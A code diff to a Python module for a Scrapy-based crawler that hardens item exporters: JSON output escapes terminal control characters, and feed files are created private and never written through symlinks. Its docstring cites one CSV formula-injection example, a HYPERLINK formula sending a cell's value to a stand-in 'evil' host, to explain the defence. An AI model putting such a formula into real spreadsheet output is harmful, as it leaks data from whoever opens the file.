@@ -1,8 +1,13 @@
-"""Scrapy's CSV and XML item exporters, made safe for what sites put in items.
+"""Scrapy's item exporters and file feed storage, made safe for what sites put in items.
 
 Both ``framework export`` and a crawl's ``-o``/``-O`` feeds write through these (the
-feeds by ``FEED_EXPORTERS`` in :mod:`framework.scrapy_settings`). Item values and, for
-records a site supplies as JSON, even their keys are chosen by the site:
+feeds by ``FEED_EXPORTERS`` and ``FEED_STORAGES`` in :mod:`framework.scrapy_settings`).
+Item values and, for records a site supplies as JSON, even their keys are chosen by the
+site:
+
+* JSON and JSON Lines: DEL, the C1 controls, the bidirectional marks and U+2028/U+2029
+  are written as ``\\u`` escapes (:func:`framework.jsontext.escape_json`): the same
+  JSON, but a terminal that shows the file obeys none of them.
 
 * CSV: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
   a formula to a spreadsheet (``=HYPERLINK("http://evil/?leak="&A1)``). Such a cell is
@@ -13,19 +18,42 @@ records a site supplies as JSON, even their keys are chosen by the site:
   element: it becomes ``<field name="...">``. Characters XML 1.0 cannot carry at all
   (control characters other than tab and line breaks, lone surrogates, U+FFFE, U+FFFF)
   become U+FFFD, visibly, in text and names alike. Every export parses.
+
+A crawl's feed file (:class:`FeedFileStorage`) is as private as an export: created 0600
+in folders created 0700, and never written through a symlink.
 """
 
 from __future__ import annotations
 
+import os
 import re
 from collections.abc import Iterable
-from typing import Any
+from pathlib import Path
+from typing import IO, Any
 from xml.sax.xmlreader import AttributesImpl
 
-from scrapy.exporters import CsvItemExporter, XmlItemExporter
+from scrapy.exporters import (
+    CsvItemExporter,
+    JsonItemExporter,
+    JsonLinesItemExporter,
+    XmlItemExporter,
+)
+from scrapy.extensions.feedexport import FileFeedStorage
 from scrapy.utils.python import is_listlike
+from scrapy.utils.serialize import ScrapyJSONEncoder
 
-__all__ = ["CsvExporter", "XmlExporter", "csv_safe", "xml_text"]
+from framework.files import make_private_dir, open_nofollow
+from framework.jsontext import escape_json
+
+__all__ = [
+    "CsvExporter",
+    "FeedFileStorage",
+    "JsonExporter",
+    "JsonLinesExporter",
+    "XmlExporter",
+    "csv_safe",
+    "xml_text",
+]
 
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 _PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
@@ -92,3 +120,42 @@ class XmlExporter(XmlItemExporter):
             self.xg.characters(xml_text(str(serialized_value)))
         self.xg.endElement(tag)
         self._beautify_newline()
+
+
+class _EscapingEncoder(ScrapyJSONEncoder):
+    """Scrapy's item encoder, with what acts rather than shows escaped: the same JSON."""
+
+    def encode(self, o: Any) -> str:
+        return escape_json(super().encode(o))
+
+
+class JsonLinesExporter(JsonLinesItemExporter):
+    """Scrapy's JSON Lines exporter; what acts on a terminal is written escaped."""
+
+    def __init__(self, file: Any, **kwargs: Any) -> None:
+        super().__init__(file, **kwargs)
+        self.encoder = _EscapingEncoder(**self._kwargs)  # the options Scrapy settled
+
+
+class JsonExporter(JsonItemExporter):
+    """Scrapy's JSON exporter; what acts on a terminal is written escaped."""
+
+    def __init__(self, file: Any, **kwargs: Any) -> None:
+        super().__init__(file, **kwargs)
+        self.encoder = _EscapingEncoder(**self._kwargs)
+
+
+class FeedFileStorage(FileFeedStorage):
+    """Scrapy's storage of a local feed file (a plain path or a ``file:`` URI): missing
+    folders made 0700, a new file 0600 whatever the umask (one that exists keeps its
+    mode), and a symlink where the file goes refused (``O_NOFOLLOW``: a
+    :class:`~framework.errors.WorkspaceError` naming it), never written through. The
+    crawl command refuses one before it starts (:func:`framework.export.feed_settings`);
+    this holds for ``scrapy crawl`` and for a link planted meanwhile."""
+
+    def open(self, spider: Any) -> IO[bytes]:
+        path = Path(self.path)
+        make_private_dir(path.parent)
+        end = os.O_APPEND if self.write_mode == "ab" else os.O_TRUNC
+        fd = open_nofollow(path, os.O_WRONLY | os.O_CREAT | end)
+        return os.fdopen(fd, self.write_mode)
